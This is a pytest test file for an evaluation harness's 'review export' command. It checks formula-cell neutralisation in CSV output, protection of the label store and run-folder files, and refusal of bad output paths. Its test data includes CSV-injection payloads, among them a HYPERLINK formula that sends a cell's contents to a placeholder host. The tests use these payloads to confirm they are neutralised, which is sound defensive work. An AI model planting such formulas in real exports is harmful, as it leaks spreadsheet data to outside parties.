"""`review export`: CSV cells that a spreadsheet would run are neutralised, the label store and the run
folder's files are never overwritten by accident, and a path of no known format writes nothing."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
import yaml

from harness.app.cli import main
from harness.core.errors import InputError
from harness.core.store import RunStore
from harness.review.export import export_bytes, export_labels
from harness.review.store import NewItem, ReviewStore

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def _labelled(url: str, comments: list[str]) -> ReviewStore:
    review = ReviewStore(url)
    review.add_items([NewItem(kind="single", stratum="random", source="bench/qa", source_record_id="r",
                              source_item_id=str(i), task="qa", candidate="cand", prompt=f"p{i}", output=f"o{i}",
                              model="cand", content_key=f"k{i}") for i in range(len(comments))])
    for item_id, comment in enumerate(comments, 1):
        review.add_label(item_id, "ann", "accept", 3, comment=comment)
    return review


def test_csv_cells_that_start_like_a_formula_get_a_quote_and_parquet_keeps_them(tmp_path):
    review = _labelled(f"sqlite:///{tmp_path / 'review.db'}", [*FORMULAS, "fine = ok", "1-2"])
    rows = list(csv.DictReader(io.StringIO(export_bytes(review, "csv").decode("utf-8"), newline="")))
    assert [r["comment"] for r in rows] == ["'" + f for f in FORMULAS] + ["fine = ok", "1-2"]
    assert [r["helpfulness"] for r in rows] == ["3"] * 8  # numbers stay numbers
    assert [r["reviewer"] for r in rows] == ["ann"] * 8  # and a cell with a CR stays in its row
    frame = pd.read_parquet(io.BytesIO(export_bytes(review, "parquet")))
    assert frame["comment"].tolist() == [*FORMULAS, "fine = ok", "1-2"]


def _cli_run(tmp_path, labels: int = 3):
    """A pipeline YAML and a run whose default label store (<run>/review/review.db) holds ``labels`` labels."""
    cfg = tmp_path / "pipeline.yaml"
    cfg.write_text(yaml.safe_dump({"run": "r1", "review": {"reviewers": [{"name": "ann", "token": "t"}]}}))
    store = RunStore("r1", tmp_path / "runs")
    db = store.root / "review" / "review.db"
    if labels:
        db.parent.mkdir(parents=True)
        _labelled(f"sqlite:///{db}", [f"c{i}" for i in range(labels)]).close()
    return ["--config", str(cfg), "--home", str(tmp_path / "runs")], store, db


def test_export_never_replaces_the_label_store(tmp_path, capsys):
    common, store, db = _cli_run(tmp_path, labels=68)
    before = db.read_bytes()
    for force in ([], ["--force"]):
        assert main(["review", "export", *common, "--out", str(db), "--format", "csv", *force]) == 2
        assert "is the label store" in capsys.readouterr().err
    assert db.read_bytes() == before
    assert ReviewStore(f"sqlite:///{db}").counts()["labels"] == 68
    # its WAL and lock files are the store too
    with pytest.raises(InputError, match="is the label store"):
        export_labels(ReviewStore(f"sqlite:///{db}"), f"{db}-wal", "csv", run_folder=store.root, force=True)


def test_export_overwrites_a_file_inside_the_run_folder_only_when_forced(tmp_path, capsys):
    common, store, _ = _cli_run(tmp_path)
    record = store.root / "review" / "record.json"
    record.write_text("{}")
    assert main(["review", "export", *common, "--out", str(record), "--format", "csv"]) == 2
    assert "exists inside the run folder" in capsys.readouterr().err and record.read_text() == "{}"
    assert main(["review", "export", *common, "--out", str(record), "--format", "csv", "--force"]) == 0
    assert record.read_text().startswith("type,")
    fresh = store.root / "review" / "labels.csv"  # a new file in the run folder needs no --force
    assert main(["review", "export", *common, "--out", str(fresh)]) == 0 and fresh.exists()
    outside = tmp_path / "labels.csv"  # outside the run folder an export replaces its earlier self
    outside.write_text("old")
    assert main(["review", "export", *common, "--out", str(outside)]) == 0
    assert len(pd.read_csv(outside)) == 3


def test_a_bad_suffix_writes_nothing_not_even_an_empty_store(tmp_path, capsys):
    common, _, db = _cli_run(tmp_path, labels=0)
    assert main(["review", "export", *common, "--out", str(tmp_path / "labels.txt")]) == 2
    assert "format: 'txt' is not one of ['csv', 'parquet']" in capsys.readouterr().err
    assert not db.exists() and not (tmp_path / "labels.txt").exists()


def test_an_out_whose_folder_is_a_file_exits_2_and_creates_nothing(tmp_path, capsys):
    common, store, db = _cli_run(tmp_path, labels=0)
    a_file = tmp_path / "tokens.yaml"
    a_file.write_text("ann: t\n")
    for out in (a_file / "labels.csv", a_file / "deeper" / "labels.csv"):
        assert main(["review", "export", *common, "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert err == f"nift-gate: error: {out}: {a_file} is a file, not a folder; name an export file in a folder\n"
    assert not store.root.exists() and a_file.read_text() == "ann: t\n"


def test_a_run_without_a_review_store_exits_2_and_creates_none(tmp_path, capsys):
    common, store, db = _cli_run(tmp_path, labels=3)
    out = tmp_path / "labels.csv"
    assert main(["review", "export", *common, "--run", "r1-typo", "--out", str(out)]) == 2
    typo = RunStore("r1-typo", tmp_path / "runs").root
    assert capsys.readouterr().err == (f"nift-gate: error: {typo / 'review'}: no review store; run `nift-gate review "
                                       f"enqueue` first\n")
    assert not typo.exists() and not out.exists()
    assert main(["review", "export", *common, "--out", str(out)]) == 0  # the run that has one still exports
    assert len(pd.read_csv(out)) == 3


def test_a_configured_sqlite_store_that_is_not_there_is_refused_not_created(tmp_path, capsys):
    common, _, _ = _cli_run(tmp_path, labels=0)
    missing = tmp_path / "elsewhere" / "labels.db"
    empty = tmp_path / "empty.db"
    empty.touch()  # a file that holds no label store
    for database, message in ((missing, f"review.database: {missing}: no review store"),
                              (empty, "no review store; run `nift-gate review enqueue` first")):
        args = [*common, "--set", f"review.database=sqlite:///{database}", "--out", str(tmp_path / "labels.csv")]
        assert main(["review", "export", *args]) == 2
        assert message in capsys.readouterr().err
    assert not missing.parent.exists() and empty.read_bytes() == b""
    assert not (tmp_path / "labels.csv").exists()
